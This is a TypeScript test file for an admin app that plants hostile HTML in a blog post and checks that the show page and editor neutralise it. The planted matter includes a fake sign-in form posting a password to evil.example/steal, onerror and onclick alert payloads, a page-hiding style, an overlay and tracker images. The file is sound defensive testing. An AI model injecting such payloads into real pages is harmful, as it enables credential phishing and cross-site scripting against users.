import type { Editor } from '@tiptap/core';
import { fireEvent, screen, waitFor, within } from '@testing-library/react';
import { env } from '@/config/env';
import { XSS_CORPUS } from '../../fixtures/xss-corpus';
import { harmIn } from '../../fixtures/inert';
import { firstRecord, renderAdmin, signInSuperuser } from './render-admin';
import { createDataProvider } from '@/data';
import { entities } from '@/app/registry';

const TRACKER = 'https://tracker.example/pixel.gif';
// What the review planted, first (the corpus's unclosed elements swallow what follows them).
const PLANTED = [
  '<style>body { display: none }</style>',
  '<div style="position: fixed; inset: 0; z-index: 9999; background: white">Your session expired</div>',
  '<form action="https://evil.example/steal" method="post"><input type="password" name="p"><button>Sign in</button></form>',
  '<p><img src="x" onerror="alert(1)"><img src="//tracker.example/second.gif" alt="Second"></p>',
].join('');
const HOSTILE = `<p>Visible post text</p><p><img src="${TRACKER}" alt="Tracker"></p>${PLANTED}${XSS_CORPUS.join('')}`;
const TRACKER_ORIGINS = ['https://tracker.example', 'http://tracker.example'];
const HIDDEN = /from (another site is|other sites are) hidden/;
/** The editor's own notice and buttons, not those of the live preview beside it. */
const PREVIEW = 'section[aria-label="Preview, as it will read"]';
const inEditor = (els: HTMLElement[]) => els.filter((el) => !el.closest(PREVIEW));

async function blogPostWithHostileBody() {
  const dataProvider = createDataProvider(entities);
  signInSuperuser();
  const post = await firstRecord(dataProvider, 'blog-posts');
  await dataProvider.update('blog-posts', {
    id: post.id as string,
    data: { body: HOSTILE },
    previousData: post,
  });
  return { dataProvider, id: encodeURIComponent(String(post.id)) };
}

describe('rich text is inert on the show page of a blog post', () => {
  it('renders the whole XSS corpus as content only, with remote images behind "Show images"', async () => {
    const alert = vi.spyOn(window, 'alert').mockImplementation(() => undefined);
    const { dataProvider, id } = await blogPostWithHostileBody();
    const { container } = renderAdmin(`/blog-posts/${id}/show`, { dataProvider });
    const text = await screen.findByText('Visible post text');
    const body = text.parentElement as HTMLElement;
    expect(harmIn(body.innerHTML, env.allowedImageOrigins)).toEqual([]);
    expect(
      container.querySelectorAll('script, style, form, input[type=password], iframe, meta, base, link'),
    ).toHaveLength(0);
    expect(container.querySelector(`img[src="${TRACKER}"]`)).toBeNull();
    expect(within(body).getByAltText('Tracker')).toBeVisible();
    expect(screen.getByText(HIDDEN)).toHaveTextContent('2 images from other sites are hidden.');
    expect(alert).not.toHaveBeenCalled();

    const notice = screen.getByText(HIDDEN);
    fireEvent.click(
      within(notice.closest('[role=alert]') as HTMLElement).getByRole('button', { name: 'Show images' }),
    );
    await waitFor(() => expect(container.querySelector(`img[src="${TRACKER}"]`)).not.toBeNull());
    expect(screen.queryByText(HIDDEN)).toBeNull();
    // Showing images lets them load; it never lets anything else through.
    const shown = (await screen.findByText('Visible post text')).parentElement as HTMLElement;
    expect(harmIn(shown.innerHTML, TRACKER_ORIGINS)).toEqual([]);
  });
});

describe('rich text is inert in the editor', () => {
  it('loads sanitised text, holds remote images back, and saves sanitised text that keeps them', async () => {
    const { dataProvider, id } = await blogPostWithHostileBody();
    const { container } = renderAdmin(`/blog-posts/${id}`, { dataProvider });
    await screen.findByText('Visible post text', {}, { timeout: 10000 });
    const editable = container.querySelector('.ProseMirror') as HTMLElement & { editor: Editor };
    expect(editable.querySelectorAll('script, style, form, input, iframe, svg')).toHaveLength(0);
    expect(editable.querySelector(`img[src="${TRACKER}"]`)).toBeNull();
    expect(editable.querySelector('img[src^="about:blank#held-image-"]')).not.toBeNull();
    expect(inEditor(screen.getAllByText(HIDDEN))).toHaveLength(1);
    expect(inEditor(screen.getAllByText(HIDDEN))[0]).toBeVisible();

    editable.editor.commands.insertContent(
      '<p>Added line</p><p onclick="alert(1)" style="position:fixed">x</p>',
    );
    const update = vi.spyOn(dataProvider, 'update');
    const save = screen.getByRole('button', { name: 'Save' });
    await waitFor(() => expect(save).toBeEnabled());
    fireEvent.click(save);
    await waitFor(() => expect(update).toHaveBeenCalled());
    const saved = String(update.mock.calls[0]?.[1].data.body);
    expect(saved).toContain('Added line');
    expect(saved).toContain(`src="${TRACKER}"`);
    expect(saved).toContain('src="//tracker.example/second.gif"');
    expect(saved).not.toContain('about:blank');
    expect(harmIn(saved, TRACKER_ORIGINS)).toEqual([]);
  });

  it('"Show images" in the editor loads the held images there', async () => {
    const { dataProvider, id } = await blogPostWithHostileBody();
    const { container } = renderAdmin(`/blog-posts/${id}`, { dataProvider });
    await screen.findByText('Visible post text', {}, { timeout: 10000 });
    const editable = container.querySelector('.ProseMirror') as HTMLElement;
    const [show] = inEditor(screen.getAllByRole('button', { name: 'Show images' }));
    fireEvent.click(show as HTMLElement);
    await waitFor(() => expect(editable.querySelector(`img[src="${TRACKER}"]`)).not.toBeNull());
    expect(editable.querySelector('img[src^="about:blank"]')).toBeNull();
    expect(inEditor(screen.queryAllByText(HIDDEN))).toEqual([]);
  });
});
